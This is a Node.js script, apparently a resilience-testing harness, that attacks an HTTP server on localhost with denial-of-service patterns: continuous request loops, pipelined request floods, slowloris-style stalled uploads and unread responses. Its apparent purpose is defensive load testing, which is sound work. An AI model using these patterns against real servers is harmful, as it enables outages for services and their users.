/**
 * Attacks a server until this process is killed: `nice -n 19 node attacker.mjs <port> <file of attacks>`. A separate
 * process does not share a thread with the measured traveller. Bodies are prepared in advance. Prints the number of
 * responses by status once a second.
 */
import { readFileSync } from "node:fs";
import { Agent, request } from "node:http";
import { connect } from "node:net";
import { setTimeout as wait } from "node:timers/promises";

const [port, file] = [Number(process.argv[2]), process.argv[3]];
const attacks = JSON.parse(readFileSync(file, "utf8"));
const statuses = {};
let count = 0;

/** Sends the next request as soon as the previous one is answered. */
async function loop({ from, method, path, headers, bodyFile }) {
  const agent = new Agent({ keepAlive: true, maxSockets: 1, localAddress: from });
  const body = bodyFile && readFileSync(bodyFile);
  const template = body?.length < 10_000 && body.includes("{") ? body.toString() : undefined;
  for (;;) {
    const number = count++;
    const status = await new Promise((resolve) => {
      const outgoing = request(
        { port, host: "127.0.0.1", method, path: fill(path, number), headers, agent },
        (response) =>
          response
            .resume()
            .on("end", () => resolve(response.statusCode))
            .on("error", () => resolve("cut")),
      );
      outgoing.on("error", ({ code }) => resolve(code));
      outgoing.end(template ? fill(template, number) : body);
    });
    statuses[status] = (statuses[status] ?? 0) + 1;
    // A refused connection is retried, but not in a busy loop.
    if (typeof status !== "number") await wait(50);
  }
}

/**
 * Replaces `{any}`, or `{digits}` for nine digits, with a different text in each request, and `{pair}` with a text
 * that two requests share.
 */
function fill(text, number) {
  const digits = String((number * 7_654_321) % 1_000_000_000).padStart(9, "0");
  return text
    .replace("{any}", `x${number}`)
    .replace("{pair}", `x${number >> 1}`)
    .replace("{digits}", digits);
}

/** Sends many requests in one packet, repeatedly; reads the responses only if `reads` is set. */
async function pipeline({ from, path, headers = {}, depth, reads }) {
  const head = Object.entries({ host: "127.0.0.1", ...headers });
  const one = `GET ${path} HTTP/1.1\r\n${head.map(([name, value]) => `${name}: ${value}\r\n`).join("")}\r\n`;
  const packet = Buffer.from(one.repeat(depth));
  for (;;) {
    const end = await new Promise((resolve) => {
      const socket = connect({ port, host: "127.0.0.1", localAddress: from });
      socket.on("error", ({ code }) => resolve(code)).on("close", () => resolve("closed"));
      let tail = "";
      let answered = 0;
      socket.on("data", (chunk) => {
        const text = tail + chunk.toString("latin1");
        const found = text.match(/HTTP\/1\.1 \d\d\d/g) ?? [];
        for (const line of found) statuses[line.slice(9)] = (statuses[line.slice(9)] ?? 0) + 1;
        // The tail is shorter than the searched text, so that no response is counted twice.
        tail = text.slice(-11);
        answered += found.length;
        if (answered < depth) return;
        answered = 0;
        socket.write(packet);
      });
      if (!reads) socket.pause();
      socket.write(packet);
    });
    statuses[end] = (statuses[end] ?? 0) + 1;
    await wait(100);
  }
}

/** Sends a request without the last bytes of its body, then these bytes one by one; reconnects when cut off. */
async function stall({ from, method, path, headers, bodyFile, keptBack, everyMs }) {
  const body = readFileSync(bodyFile);
  const head = Object.entries({ host: "127.0.0.1", "content-length": body.length, ...headers });
  for (;;) {
    await new Promise((resolve) => {
      const socket = connect({ port, host: "127.0.0.1", localAddress: from });
      const drip = setInterval(() => socket.write("x"), everyMs);
      socket.on("data", (data) => {
        const status = data.toString("latin1").slice(9, 12);
        statuses[status] = (statuses[status] ?? 0) + 1;
      });
      socket.on("error", () => undefined);
      socket.on("close", () => resolve(clearInterval(drip)));
      socket.write(
        `${method} ${path} HTTP/1.1\r\n${head.map(([name, value]) => `${name}: ${value}\r\n`).join("")}\r\n`,
      );
      socket.write(body.subarray(0, body.length - keptBack));
    });
    // The attack is the open connection. Resending megabytes without a pause would attack the network, which the
    // reverse proxy has to protect.
    await wait(20_000);
  }
}

/** Sends requests and never reads the responses. */
async function unread({ from, method, path }) {
  for (;;) {
    await new Promise((resolve) => {
      const socket = connect({ port, host: "127.0.0.1", localAddress: from });
      socket.on("error", () => undefined).on("close", resolve);
      socket.write(`${method} ${path} HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n`);
      socket.pause();
    });
    await wait(100);
  }
}

const ways = { loop, stall, unread, pipeline };
for (const { way, connections, ...attack } of attacks)
  for (let made = 0; made < connections; made++) void ways[way](attack);
setInterval(() => console.log(JSON.stringify(statuses)), 1000);
// Ends with the parent process.
process.stdin.on("end", () => process.exit()).resume();
